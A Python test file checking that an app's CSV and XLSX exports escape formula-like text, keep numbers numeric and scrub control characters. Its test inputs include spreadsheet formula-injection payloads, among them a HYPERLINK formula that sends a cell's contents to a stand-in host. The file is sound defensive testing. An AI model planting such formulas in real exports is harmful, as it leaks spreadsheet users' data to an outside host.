"""Spreadsheet exports hold data, never something to run (lo_network.domain.sheets): read
back as a spreadsheet program reads them (openpyxl for XLSX, the csv module for CSV)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from lo_network.domain import imports as d
from lo_network.domain import sheets

HOSTILE = ['=HYPERLINK("http://x/?"&C2,"Details")', "=1+1", "+31 6 1234 5678", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


def read_xlsx(data: bytes) -> list[list]:
    """Every cell as (data type, value); a formula would be data type 'f'."""
    sheet = load_workbook(io.BytesIO(data)).active
    return [[(c.data_type, c.value) for c in row] for row in sheet.iter_rows()]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_xlsx_text_cells_are_strings_and_numbers_stay_numbers():
    rows = [[text, 7, 12.5, None, ["=a", "b"]] for text in HOSTILE]
    cells = read_xlsx(sheets.write_table(["=Kop", "Aantal", "Procent", "Leeg", "Lijst"], rows, "xlsx"))
    assert cells[0][0] == ("s", "=Kop")
    for text, row in zip(HOSTILE, cells[1:]):
        assert row[0] == ("s", sheets.scrub(text, lines=True))  # a text, as written (CR read as a line break)
        assert row[1] == ("n", 7) and row[2] == ("n", 12.5)
        assert row[4] == ("s", "=a; b")
    assert not any(t == "f" for row in cells for t, _ in row)


def test_csv_text_that_would_run_gets_a_quote_and_numbers_do_not():
    rows = [[text, 7, -3, 12.5, True] for text in HOSTILE] + [["gewoon", 0, 0, 0.0, False]]
    parsed = read_csv(sheets.write_table(["Naam", "Aantal", "Verschil", "Procent", "Vlag"], rows, "csv"))
    for row in parsed[1:-1]:
        assert row[0].startswith("'") and row[0][1] in "=+-@\t\n"
        assert row[1:] == ["7", "-3", "12.5", "True"]  # a number (even a negative one) is not escaped
    assert parsed[-1] == ["gewoon", "0", "0", "0.0", "False"]
    assert [sheets.unescape_csv(r[0]) for r in parsed[1:-1]] == [sheets.scrub(t, lines=True) for t in HOSTILE]


@pytest.mark.parametrize("fmt", sheets.FORMATS)
def test_stored_control_characters_cannot_stop_an_export(fmt):
    """openpyxl raises IllegalCharacterError on these; the writer scrubs them instead."""
    row = ["Bel\u0007l\u0000", "a\u000bb\u001fc\u0085d\u202e", "lone\ud800", "een\ntwee\tdrie"]
    data = sheets.write_table(["A", "B", "C", "D"], [row], fmt)
    values = [v for _, v in read_xlsx(data)[1]] if fmt == "xlsx" else read_csv(data)[1]
    assert values[:3] == ["Bell", "abc\nd", "lone"]
    assert values[3] == "een\ntwee\tdrie"


def test_an_exported_list_imports_again_as_it_was():
    record = {"first_name": "=Jan", "last_name": "@Smit", "phone": "+31 6 1234 5678", "email": "jan@smit.example",
              "job_title": "-planner", "status": "prospect"}
    headers = list(d.EXPORT_HEADERS["people"].values())
    table = d.read_table(sheets.write_table(headers, [d.export_row(record, "people")], "csv"), "personen.csv")
    rows, errors = d.prepare_rows(table, d.recognise(table.columns, "people"), "people")
    assert errors == []
    assert {k: rows[0].props[k] for k in ("first_name", "last_name", "phone", "job_title")} == {
        "first_name": "=Jan", "last_name": "@Smit", "phone": "+31 6 1234 5678", "job_title": "-planner"}


@pytest.mark.parametrize("fmt", sheets.FORMATS)
def test_failed_rows_of_an_import_are_escaped_too(fmt):
    source = sheets.write_table(["Naam", "Soort"], [["=1+1", "geen soort"]], fmt)
    table = d.read_table(source, f"lijst.{fmt}")
    _, errors = d.prepare_rows(table, d.recognise(table.columns, "organisations"), "organisations")
    data = d.failed_rows_file(table, errors)
    if fmt == "xlsx":
        assert read_xlsx(data)[1][0] == ("s", "=1+1")
    else:
        assert read_csv(data)[1][0] == "'=1+1"


def test_the_dashboard_downloads_keep_counts_numeric_and_text_inert():
    from lo_network.states.dashboard import CHARTS, download_bytes

    for key, (_, columns) in CHARTS.items():
        row = {c: 5 for c, _ in columns} | {columns[0][0]: "=1+1"}
        _, xlsx = download_bytes([row], key, "xlsx")
        cells = read_xlsx(xlsx)[1]
        assert cells[0] == ("s", "=1+1") and all(c == ("n", 5) for c in cells[1:]), key
        _, data = download_bytes([row], key, "csv")
        assert read_csv(data)[1] == ["'=1+1"] + ["5"] * (len(columns) - 1), key


# which code may write a spreadsheet itself, and why (everything else goes through sheets)
WRITERS_ALLOWED = {
    "lo_network/domain/sheets.py": "the one writer of exports",
    "lo_network/services/privacy_files.py": "rewrites an uploaded file in place after an erasure (not an export)",
}
WRITING = re.compile(r"\.to_excel\(|\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(|ExcelWriter\(")


def test_no_export_writes_a_spreadsheet_around_the_shared_writer():
    """A new export that writes CSV or XLSX itself (pandas, csv, openpyxl) fails here: it
    must use ``sheets.write_table`` so its text is escaped like every other export's."""
    root = Path(__file__).resolve().parents[2]
    found = {str(p.relative_to(root)) for p in (root / "lo_network").rglob("*.py")
             if WRITING.search(p.read_text(encoding="utf-8"))}
    assert "lo_network/domain/sheets.py" in found  # the walk sees the writer itself
    assert found <= set(WRITERS_ALLOWED), found - set(WRITERS_ALLOWED)
